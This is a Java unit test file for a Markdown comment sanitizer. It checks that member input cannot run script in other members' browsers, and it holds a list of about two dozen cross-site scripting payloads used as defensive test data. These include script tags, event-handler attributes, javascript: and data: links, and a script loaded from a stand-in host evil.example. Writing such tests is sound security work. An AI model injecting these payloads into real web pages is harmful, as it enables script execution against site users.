package coop.plenum.web;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Set;

import static org.assertj.core.api.Assertions.assertThat;

/** Issue 14: comments are Markdown, and nothing a member types can run in another member's browser. */
class SafeMarkdownTest {

    private static final Set<String> ALLOWED_TAGS = Set.of("p", "br", "em", "strong", "code", "pre", "blockquote", "ul", "ol",
            "li", "a", "hr", "del");

    private static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<a href=\"javascript:alert(1)\">click</a>",
            "[click](javascript:alert(1))",
            "[click](JaVaScRiPt:alert(1))",
            "[click](  javascript:alert(1))",
            "[click](java&#x09;script:alert(1))",
            "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[click](vbscript:msgbox(1))",
            "![x](javascript:alert(1))",
            "![x](https://evil.example/pixel.png \"onerror=alert(1)\")",
            "[ref]\n\n[ref]: javascript:alert(1)",
            "<javascript:alert(1)>",
            "**<b onmouseover=alert(1)>bold</b>**",
            "<div style=\"background:url(javascript:alert(1))\">x</div>",
            "<style>body{display:none}</style>",
            "<form action=https://evil.example><input name=p></form>",
            "`<script>alert(1)</script>`",
            "```\n<script>alert(1)</script>\n```",
            "<details open ontoggle=alert(1)>",
            "<!-- <script>alert(1)</script> -->",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "[a](https://ok.example \"title\" onclick=alert(1))");

    /** What is left could be put on any page: known tags only, no event handlers or styles, links only to the web or mail. */
    private static void nothingExecutable(String markdown) {
        String html = SafeMarkdown.html(markdown);
        Document doc = Jsoup.parseBodyFragment(html);
        for (Element e : doc.body().getAllElements()) {
            if (e == doc.body()) {
                continue;
            }
            assertThat(ALLOWED_TAGS).as("tag <%s> from %s → %s", e.tagName(), markdown, html).contains(e.tagName());
            for (Attribute a : e.attributes()) {
                assertThat(a.getKey()).as("attribute from %s → %s", markdown, html).isIn("href", "rel");
                if (a.getKey().equals("href")) {
                    assertThat(a.getValue()).as("href from %s → %s", markdown, html).matches("(?i)(https?:|mailto:).*");
                }
            }
        }
        // markup typed as text stays visible as text ("&lt;img onerror=…&gt;" is harmless): only real elements count
        assertThat(html.toLowerCase()).as("from %s", markdown).doesNotContain("<script").doesNotContain("<img")
                .doesNotContain("<iframe").doesNotContain("<svg");
    }

    @Test
    void hostileInputLeavesNothingExecutable() {
        HOSTILE.forEach(SafeMarkdownTest::nothingExecutable);
    }

    @Test
    void rawHtmlIsShownAsTheTextItWas() {
        assertThat(SafeMarkdown.html("<script>alert(1)</script>")).isEqualTo("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>");
    }

    @Test
    void basicFormattingIsKept() {
        assertThat(SafeMarkdown.html("**bold** and *slanted* and `code`"))
                .isEqualTo("<p><strong>bold</strong> and <em>slanted</em> and <code>code</code></p>");
        assertThat(SafeMarkdown.html("- one\n- two")).isEqualTo("<ul>\n<li>one</li>\n<li>two</li>\n</ul>");
        assertThat(SafeMarkdown.html("> quoted")).isEqualTo("<blockquote>\n<p>quoted</p>\n</blockquote>");
        assertThat(SafeMarkdown.html("line one\nline two")).isEqualTo("<p>line one<br>\nline two</p>");
    }

    @Test
    void linksToTheWebKeepTheirAddressAndAreMarkedNofollow() {
        assertThat(SafeMarkdown.html("[the plan](https://example.org/plan?a=1&b=2)"))
                .isEqualTo("<p><a href=\"https://example.org/plan?a=1&amp;b=2\" rel=\"nofollow noopener\">the plan</a></p>");
        assertThat(SafeMarkdown.html("[x](javascript:alert(1))")).doesNotContain("href");
    }

    @Test
    void imagesAreNotShown() {
        assertThat(SafeMarkdown.html("![pixel](https://evil.example/p.png)")).doesNotContain("<img").doesNotContain("evil.example");
    }

    @Test
    void hugeNestingIsAnsweredAsPlainTextWithoutOverflowingTheStack() {
        String quotes = ">".repeat(5_000) + " deep <script>alert(1)</script>";
        String html = SafeMarkdown.html(quotes);
        assertThat(html).startsWith("<p>&gt;&gt;&gt;").contains("&lt;script&gt;");
        nothingExecutable(quotes);
        String lists = "- ".repeat(2_500) + "x";
        nothingExecutable(lists);
        String brackets = "[".repeat(5_000) + "x" + "](javascript:alert(1))".repeat(200);
        nothingExecutable(brackets);
        String emphasis = "*".repeat(2_500) + "x" + "*".repeat(2_500);
        nothingExecutable(emphasis);
    }

    @Test
    void emptyTextIsNothing() {
        assertThat(SafeMarkdown.html("")).isEmpty();
        assertThat(SafeMarkdown.html(null)).isEmpty();
    }
}
